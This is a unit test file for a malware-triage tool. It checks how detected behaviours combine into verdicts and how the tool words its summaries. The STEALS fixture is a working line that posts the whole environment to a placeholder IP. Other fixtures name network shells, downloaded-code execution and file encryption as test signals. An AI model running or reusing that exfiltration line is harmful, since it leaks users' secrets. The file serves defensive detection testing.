"""The published rules, each with what it does and does not do."""

import pytest
from msgspec.structs import replace

from tests.unit.triage.behaviours.scripts import listed, seen
from vedette.core.nouns import ByteRange
from vedette.core.verdicts import Judgement, Verdict
from vedette.triage.behaviours import Read, judge, matching, observed
from vedette.triage.fact import When
from vedette.triage.kinds import Kind
from vedette.triage.layers.codecs import Step
from vedette.triage.sample import Sample

SAMPLE = Sample(name="case.py", data=b"", kind=Kind.PYTHON)
STEALS = "import os, requests\nrequests.post('http://198.51.100.7/x', json=dict(os.environ))\n"


def judged(text: str, language: str = "python", name: str = "") -> Judgement:
    return judge(SAMPLE, seen(text, language, name))


def test_nothing_seen_is_benign_and_says_what_would_change_that() -> None:
    found = judged("print(1)\n")
    assert found.verdict is Verdict.BENIGN
    assert found.changes


def test_the_gravest_behaviour_decides_and_is_named_first() -> None:
    found = judged(STEALS)
    assert found.verdict is Verdict.MALICIOUS
    assert found.summary.startswith("Sends the whole environment away")
    assert "gravest" in found.reasons[0]


def test_being_hard_to_read_is_unusual_at_most() -> None:
    found = judged("OBFUSCATED\nOBFUSCATED\n", "facts")
    assert found.verdict is Verdict.UNUSUAL


def test_three_unusual_families_early_add_up_and_two_do_not() -> None:
    two = "MOVES @INSTALL a\nSENDS @INSTALL b\n"
    assert judged(two, "facts").verdict is Verdict.UNUSUAL
    assert judged(f"{two}EMBEDS @INSTALL c\n", "facts").verdict is Verdict.SUSPICIOUS


def observed_in_program(*lines: str) -> Judgement:
    """Judge acts as they are seen in an executable."""
    made = [
        replace(listed(line, number), place=ByteRange(offset=number, length=1), when=When.RUN, sure=False)
        for number, line in enumerate(lines)
    ]
    sample = Sample(name="a.exe", data=bytes(9), kind=Kind.PE)
    return judge(sample, observed([Read(sample, made)]))


SIGNS = ("INJECTS", "ESCALATES how:a", "RUNS_COMMAND how:shell-over-the-network x")


def test_four_families_in_one_executable_add_up_and_three_do_not() -> None:
    found = observed_in_program(*SIGNS[:3], "ENCRYPTS_FILES how:found-files")
    assert found.verdict is Verdict.SUSPICIOUS
    assert "several" in found.reasons[0]
    assert observed_in_program(*SIGNS[:3]).verdict is Verdict.UNUSUAL


def test_looks_are_no_family_of_deeds() -> None:
    assert observed_in_program(*SIGNS[:3], "OBFUSCATED").verdict is Verdict.UNUSUAL


def test_many_signs_in_a_script_do_not_add_up_like_that() -> None:
    lines = "MOVES\nEVADES\nPERSISTS x\nADDS_ACCOUNT\nREADS_KEYS\n"
    assert judged(lines, "facts").verdict is Verdict.UNUSUAL


def test_the_order_of_lines_does_not_change_the_verdict() -> None:
    lines = ["RUNS_CODE < DECODES 12345678", "PERSISTS x", "READS_CLIPBOARD"]
    verdicts = {judged("\n".join(order), "facts").verdict for order in (lines, lines[::-1])}
    assert len(verdicts) == 1


def test_a_benign_verdict_is_not_headed_by_what_is_only_possible() -> None:
    found = observed_in_program("MOVES a")
    assert found.verdict is Verdict.BENIGN
    assert found.summary.startswith("Nothing sure speaks against it. Only possible: ")
    likely = judged("RUNS_COMMAND @INSTALL node build.js\n", "facts")
    assert likely.verdict is Verdict.BENIGN
    assert not likely.summary.startswith("Nothing")


def test_what_waits_to_be_called_is_told_as_that() -> None:
    found = judged("MOVES @CALL a\n", "facts")
    assert found.verdict is Verdict.BENIGN
    assert found.summary.startswith("Nothing it does by itself speaks against it. Only when called: ")


def test_a_code_in_a_picture_leads_away_and_asks_for_nothing() -> None:
    code = replace(listed("LURES how:QR-code http://x.invalid/menu", 0), says="leads on", sure=False)
    found = observed([Read(SAMPLE, [code])])
    assert [one.page.id for one in found] == ["picture-leads-away"]
    told = judge(SAMPLE, found)
    assert told.verdict is Verdict.BENIGN
    assert "leads on (http://x.invalid/menu)" in told.summary


def layered(*steps: tuple[str, ...]) -> Verdict:
    """Judge one suspicious act under layers, the outermost first."""
    read, name = [Read(replace(SAMPLE, name="a.bat"), [])], "a.bat"
    for each in steps:
        under = Sample(name=f"{name}~1", data=b"x", kind=Kind.BATCH, parent=name, steps=each, carried=True)
        read.append(Read(under, []))
        name = under.name
    read[-1] = Read(read[-1].sample, [listed("RUNS_CODE @RUN < DOWNLOADS http://x.invalid/a", 0)])
    return judge(read[0].sample, observed(read)).verdict


@pytest.mark.parametrize(
    ("steps", "verdict"),
    [
        ([("base64",)], Verdict.MALICIOUS),
        ([("command line",)], Verdict.SUSPICIOUS),
        ([("joined strings", "command line"), ("script block",)], Verdict.SUSPICIOUS),
        ([("command line", "base64", "UTF-16")], Verdict.MALICIOUS),
        ([("base64",), ("command line",)], Verdict.MALICIOUS),
        ([("file it writes",)], Verdict.SUSPICIOUS),
    ],
)
def test_only_an_encoding_hides_not_a_command_in_a_command(
    steps: list[tuple[str, ...]], verdict: Verdict
) -> None:
    assert layered(*steps) is verdict


def test_the_steps_that_hide_nothing_are_steps_of_the_decoders() -> None:
    assert matching.PLAIN.issubset(Step)


@pytest.mark.parametrize(
    ("kind", "inside", "words"),
    [
        (Kind.YAML, 0, "were not read"),
        (Kind.UNKNOWN, 0, "nobody here can read it"),
        (Kind.UNKNOWN, 2, ""),
        (Kind.PYTHON, 0, ""),
    ],
)
def test_nothing_seen_in_what_nobody_reads_is_told_as_that(kind: Kind, inside: int, words: str) -> None:
    found = judge(Sample(name="a", data=b"x", kind=kind), (), inside=inside)
    assert found.verdict is Verdict.BENIGN
    assert found.summary.startswith("Nothing in it speaks against it")
    assert words in found.summary
    assert bool(words) == (found.summary != "Nothing in it speaks against it.")
